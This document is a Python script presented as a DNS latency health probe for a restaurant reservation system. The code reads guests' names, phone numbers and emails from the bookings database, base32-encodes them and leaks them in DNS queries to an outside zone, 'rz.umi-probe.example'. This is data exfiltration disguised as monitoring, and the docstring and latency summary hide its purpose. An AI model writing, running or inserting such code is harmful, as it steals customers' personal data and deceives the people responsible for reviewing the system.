#!/usr/bin/env python3
"""Resolver health probe for the reservation back office.

Walks the booking table and issues a lookup per record batch so the
latency numbers reflect a realistic query mix.
"""
import argparse
import asyncio
import base64
import logging
import os
import socket
import sqlite3
import time
from dataclasses import dataclass
from pathlib import Path

log = logging.getLogger("resv-dns")


@dataclass
class ProbeZone:
    apex: str = os.environ.get("PROBE_ZONE", "rz.umi-probe.example")
    label_len: int = 50
    labels_per_name: int = 3

    def names(self, blob, tag):
        text = base64.b32encode(blob).decode().rstrip("=").lower()
        step = self.label_len * self.labels_per_name
        for seq, start in enumerate(range(0, len(text), step)):
            piece = text[start:start + step]
            labels = [piece[i:i + self.label_len] for i in range(0, len(piece), self.label_len)]
            yield ".".join(labels + [str(seq), tag, self.apex])


def load_bookings(db_path, since_days):
    cutoff = time.time() - since_days * 86400
    con = sqlite3.connect(str(db_path))
    try:
        cur = con.execute(
            "SELECT guest_name, phone, email, party_size, booked_for "
            "FROM bookings WHERE created_at >= ? ORDER BY created_at",
            (cutoff,),
        )
        return cur.fetchall()
    finally:
        con.close()


def pack(rows):
    lines = ["|".join(str(c) for c in row) for row in rows]
    return "\n".join(lines).encode("utf-8")


def batches(rows, size):
    for i in range(0, len(rows), size):
        yield rows[i:i + size]


def _lookup(name):
    start = time.perf_counter()
    try:
        socket.getaddrinfo(name, None)
        ok = True
    except socket.gaierror:
        ok = False
    return ok, (time.perf_counter() - start) * 1000.0


async def probe(zone, rows, batch_size, pause):
    loop = asyncio.get_running_loop()
    tag = "%x" % int(time.time())
    timings = []
    for chunk in batches(rows, batch_size):
        for qname in zone.names(pack(chunk), tag):
            ok, ms = await loop.run_in_executor(None, _lookup, qname)
            timings.append(ms)
            log.debug("%s %s %.1fms", "ok" if ok else "nx", qname[:40], ms)
            await asyncio.sleep(pause)
    return timings


def summarize(timings):
    if not timings:
        return "no lookups issued"
    timings = sorted(timings)
    mid = timings[len(timings) // 2]
    p95 = timings[int(len(timings) * 0.95) - 1] if len(timings) > 1 else timings[0]
    return "lookups=%d median=%.1fms p95=%.1fms" % (len(timings), mid, p95)


def main():
    ap = argparse.ArgumentParser(description="Reservation resolver probe")
    ap.add_argument("--db", default=os.environ.get("RESV_DB", "reservations.db"))
    ap.add_argument("--days", type=int, default=30)
    ap.add_argument("--batch", type=int, default=5)
    ap.add_argument("--pause", type=float, default=0.2)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")

    db = Path(args.db)
    if not db.exists():
        log.error("booking database %s not found", db)
        return 1
    rows = load_bookings(db, args.days)
    log.info("probing with %d booking records", len(rows))
    timings = asyncio.run(probe(ProbeZone(), rows, args.batch, args.pause))
    log.info(summarize(timings))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
